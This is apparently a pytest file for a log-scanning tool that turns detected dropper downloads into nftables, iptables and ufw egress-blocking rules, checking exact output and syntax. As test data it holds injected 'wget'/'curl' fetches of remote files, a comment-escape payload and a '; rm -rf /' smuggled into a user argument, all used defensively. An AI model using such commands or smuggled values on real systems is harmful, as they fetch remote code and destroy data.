"""Firewall rules: exact content, safety of comments, and syntax checked by the real tools
(nft -c -f, iptables-restore --test, ip6tables-restore --test, ufw --dry-run), which skip
cleanly where the tool is missing or the sandbox refuses it netlink access."""

from __future__ import annotations

import pwd
import re
import shlex
import shutil
import subprocess

import pytest

import dropscan
from conftest import dropscan_main, vhost_line
from dropscan.cli import app
from dropscan.report.egress_report import build_report
from dropscan.report.rules import egress_rules, plan

# What a sandbox without CAP_NET_ADMIN or netlink says; a syntax error never says these.
_REFUSED = re.compile(
    r"Operation not permitted|Permission denied|need to be root|Could not fetch rule ?set|"
    r"can't initialize ip6?tables table|Protocol not supported|netlink|Address family not supported",
    re.IGNORECASE,
)


def _check(argv: list[str], text: str, tmp_path, name: str) -> subprocess.CompletedProcess:
    """Run a real syntax checker on ``text``; skip (with the reason) when it cannot run here."""
    if shutil.which(argv[0]) is None:
        pytest.skip(f"{argv[0]} is not installed (apt-get install nftables iptables)")
    f = tmp_path / name
    f.write_text(text)
    p = subprocess.run([*argv, str(f)], capture_output=True, text=True, timeout=60)
    if p.returncode != 0 and _REFUSED.search(p.stderr):
        pytest.skip(f"{argv[0]} cannot run in this sandbox: {p.stderr.strip()[:200]}")
    return p


def _assert_valid(argv, text, tmp_path, name):
    p = _check(argv, text, tmp_path, name)
    assert p.returncode == 0, f"{' '.join(argv)} rejected {name}:\n{p.stderr}\n{text}"
    broken = _check(argv, text.replace("reject", "rejekt").replace("REJECT", "REJEKT"), tmp_path, "broken-" + name)
    assert broken.returncode != 0, f"{argv[0]} accepted a broken file: the check proves nothing"


@pytest.fixture(scope="module")
def report(vhost_logs):
    return build_report(dropscan.scan(vhost_logs))


def _rule_lines(text: str) -> list[str]:
    return [ln for ln in text.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]


def test_plan_addresses_names_and_skips(report):
    p = plan(report, "33")
    assert [str(t.ip) for t in p.v4] == ["198.51.100.20", "203.0.113.77"]
    assert [str(t.ip) for t in p.v6] == ["2001:db8::66"]
    assert p.v4[0].comment() == "198.51.100.20: http:8080, 2 findings, on shop.example.com"
    assert p.names == ["malware.example: https:443 (1) on shop.example.com"]
    assert p.skipped == ["127.0.0.1 tcp:4444 on intranet.example.com: loopback, never a rule target"]
    assert p.hosts == ["shop.example.com", "api.example.com", "intranet.example.com"]


def test_nftables_exact_and_valid(report, tmp_path):
    files = egress_rules(report, "nftables", "33", allow_dns=True)
    assert list(files) == ["dropscan-egress.nft"]
    text = files["dropscan-egress.nft"]
    rules = _rule_lines(text)
    assert rules[:3] == [
        "table inet dropscan_egress",
        "delete table inet dropscan_egress",
        "table inet dropscan_egress {",
    ]
    assert "\n".join(rules[3:]) == "\n".join(
        [
            "    set dropper_v4 {",
            "        type ipv4_addr",
            "        elements = {",
            "            198.51.100.20,",
            "            203.0.113.77,",
            "        }",
            "    }",
            "    set dropper_v6 {",
            "        type ipv6_addr",
            "        elements = {",
            "            2001:db8::66,",
            "        }",
            "    }",
            "    chain output {",
            "        type filter hook output priority filter; policy accept;",
            "        meta skuid 33 jump web_egress",
            "    }",
            "    chain web_egress {",
            '        oifname "lo" accept',
            "        ct state established,related accept",
            '        ip daddr @dropper_v4 limit rate 10/minute burst 20 packets log prefix "[DROPSCAN DROPPER] " '
            "flags skuid",
            "        ip daddr @dropper_v4 counter reject with icmpx admin-prohibited",
            '        ip6 daddr @dropper_v6 limit rate 10/minute burst 20 packets log prefix "[DROPSCAN DROPPER] " '
            "flags skuid",
            "        ip6 daddr @dropper_v6 counter reject with icmpx admin-prohibited",
            "        udp dport 53 accept",
            "        tcp dport 53 accept",
            '        ct state new limit rate 10/minute burst 20 packets log prefix "[DROPSCAN EGRESS] " flags skuid',
            "        meta l4proto tcp counter reject with tcp reset",
            "        counter reject with icmpx admin-prohibited",
            "    }",
            "}",
        ]
    )
    assert "#   malware.example: https:443 (1) on shop.example.com" in text.splitlines()
    _assert_valid(["nft", "-c", "-f"], text, tmp_path, "egress.nft")


def test_nftables_user_name_and_empty_report(tmp_path):
    if not any(p.pw_name == "www-data" for p in pwd.getpwall()):
        pytest.skip("no www-data user on this machine (nft checks that a named user exists)")
    text = egress_rules(build_report([]), "nftables", "www-data")["dropscan-egress.nft"]
    assert '        meta skuid "www-data" jump web_egress' in text.splitlines()
    assert "elements" not in text and "dport 53" not in text
    _assert_valid(["nft", "-c", "-f"], text, tmp_path, "empty.nft")


def test_iptables_exact_and_valid(report, tmp_path):
    files = egress_rules(report, "iptables", "33")
    assert list(files) == ["rules.v4", "rules.v6"]
    assert _rule_lines(files["rules.v4"]) == [
        "*filter",
        ":DROPSCAN-EGRESS - [0:0]",
        "-A OUTPUT -m owner --uid-owner 33 -j DROPSCAN-EGRESS",
        "-A DROPSCAN-EGRESS -o lo -j ACCEPT",
        "-A DROPSCAN-EGRESS -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT",
        '-A DROPSCAN-EGRESS -d 198.51.100.20 -m limit --limit 10/min --limit-burst 20 -j LOG --log-prefix "[DROPSCAN '
        'DROPPER] " --log-uid',
        "-A DROPSCAN-EGRESS -d 198.51.100.20 -j REJECT --reject-with icmp-admin-prohibited",
        '-A DROPSCAN-EGRESS -d 203.0.113.77 -m limit --limit 10/min --limit-burst 20 -j LOG --log-prefix "[DROPSCAN '
        'DROPPER] " --log-uid',
        "-A DROPSCAN-EGRESS -d 203.0.113.77 -j REJECT --reject-with icmp-admin-prohibited",
        "-A DROPSCAN-EGRESS -m conntrack --ctstate NEW -m limit --limit 10/min --limit-burst 20 -j LOG --log-prefix "
        '"[DROPSCAN EGRESS] " --log-uid',
        "-A DROPSCAN-EGRESS -p tcp -j REJECT --reject-with tcp-reset",
        "-A DROPSCAN-EGRESS -j REJECT --reject-with icmp-admin-prohibited",
        "COMMIT",
    ]
    v6 = _rule_lines(files["rules.v6"])
    assert "-A DROPSCAN-EGRESS -d 2001:db8::66 -j REJECT --reject-with icmp6-adm-prohibited" in v6
    assert not any("198.51.100.20" in ln for ln in v6)
    _assert_valid(["iptables-restore", "--test"], files["rules.v4"], tmp_path, "rules.v4")
    _assert_valid(["ip6tables-restore", "--test"], files["rules.v6"], tmp_path, "rules.v6")


def test_ufw_commands_and_before_rules_valid(report, tmp_path):
    files = egress_rules(report, "ufw", "33", allow_dns=True)
    assert list(files) == ["ufw-commands.sh", "before.rules.snippet", "before6.rules.snippet"]
    cmds = [ln for ln in files["ufw-commands.sh"].splitlines() if ln.startswith("ufw ")]
    assert cmds == [
        "ufw prepend reject out log to 198.51.100.20 comment 'dropscan 2 findings'",
        "ufw prepend reject out log to 203.0.113.77 comment 'dropscan 1 finding'",
        "ufw prepend reject out log to 2001:db8::66 comment 'dropscan 1 finding'",
    ]
    before = _rule_lines(files["before.rules.snippet"])
    assert before[0] == (
        "-A ufw-before-output -m owner --uid-owner 33 -d 198.51.100.20 -m limit --limit 10/min --limit-burst 20 "
        '-j LOG --log-prefix "[DROPSCAN DROPPER] " --log-uid'
    )
    assert "-A ufw-before-output -m owner --uid-owner 33 -p udp --dport 53 -j ACCEPT" in before
    # the snippet goes inside before.rules' *filter, where ufw declares its chains
    wrap4 = "*filter\n:ufw-before-output - [0:0]\n" + files["before.rules.snippet"] + "COMMIT\n"
    wrap6 = "*filter\n:ufw6-before-output - [0:0]\n" + files["before6.rules.snippet"] + "COMMIT\n"
    _assert_valid(["iptables-restore", "--test"], wrap4, tmp_path, "before.rules")
    _assert_valid(["ip6tables-restore", "--test"], wrap6, tmp_path, "before6.rules")


def test_ufw_command_lines_dry_run(report):
    if shutil.which("ufw") is None:
        pytest.skip("ufw is not installed (apt-get install ufw): the ufw command lines were not dry-run")
    cmds = [ln for ln in egress_rules(report, "ufw", "33")["ufw-commands.sh"].splitlines() if ln.startswith("ufw ")]
    assert len(cmds) == 3
    for cmd in cmds:
        p = subprocess.run(["ufw", "--dry-run", *shlex.split(cmd)[1:]], capture_output=True, text=True, timeout=60)
        if p.returncode != 0 and _REFUSED.search(p.stdout + p.stderr):
            pytest.skip(f"ufw cannot run in this sandbox: {(p.stdout + p.stderr).strip()[:200]}")
        assert p.returncode == 0 and "### tuple ### reject_log any any" in p.stdout, p.stdout + p.stderr


def test_log_text_never_escapes_a_comment(tmp_path):
    """Host names from logs reach comments: reduced to [a-z0-9.:_-], one line each."""
    log = tmp_path / "access.log"
    log.write_bytes(
        # %v as Apache logs it (quote and ESC escaped); it may not hold spaces
        vhost_line(r"x\";}drop;#\x1b[31mEVIL", "/x?c=;wget%20http://198.51.100.30/a", client="203.0.113.66")
        + vhost_line("shop.example.com", "/x?c=;curl%20http://we%C3%AFrd.example/a", client="203.0.113.67")
    )
    rep = build_report(dropscan.scan(log))
    for fw in ("nftables", "iptables", "ufw"):
        for name, text in egress_rules(rep, fw, "33").items():
            assert (
                "EVIL" not in text
                and "\x1b" not in text
                and '"' not in "".join(ln for ln in text.splitlines() if ln.lstrip().startswith("#"))
            ), (fw, name)
            assert "x_drop_31mevil" in text, (fw, name)
    _assert_valid(["nft", "-c", "-f"], egress_rules(rep, "nftables", "33")["dropscan-egress.nft"], tmp_path, "x.nft")


def test_cli_rules(runner, vhost_logs, tmp_path):
    r = runner.invoke(app, ["rules", str(vhost_logs), "--firewall", "nftables", "--user", "33"])
    assert r.exit_code == 0  # it wrote what was asked: `rules … > x.nft && nft -f x.nft` loads
    assert r.stdout == egress_rules(build_report(dropscan.scan(vhost_logs)), "nftables", "33")["dropscan-egress.nft"]
    out = tmp_path / "fw"
    r = runner.invoke(app, ["rules", str(vhost_logs), "--firewall", "ufw", "--user", "33", "--output-dir", str(out)])
    assert r.exit_code == 0
    assert sorted(p.name for p in out.iterdir()) == ["before.rules.snippet", "before6.rules.snippet", "ufw-commands.sh"]
    assert r.stdout.splitlines() == [f"wrote {out / n}" for n in ("ufw-commands.sh", "before.rules.snippet",
                                                                   "before6.rules.snippet")]  # fmt: skip
    p = dropscan_main("rules", str(vhost_logs), "--firewall", "nftables", "--user", "www data; rm -rf /")
    assert p.returncode == 2 and p.stdout == ""
    assert p.stderr == (
        "dropscan: error: --user 'www data; rm -rf /': expected a user name (like www-data) or a numeric uid\n"
    )
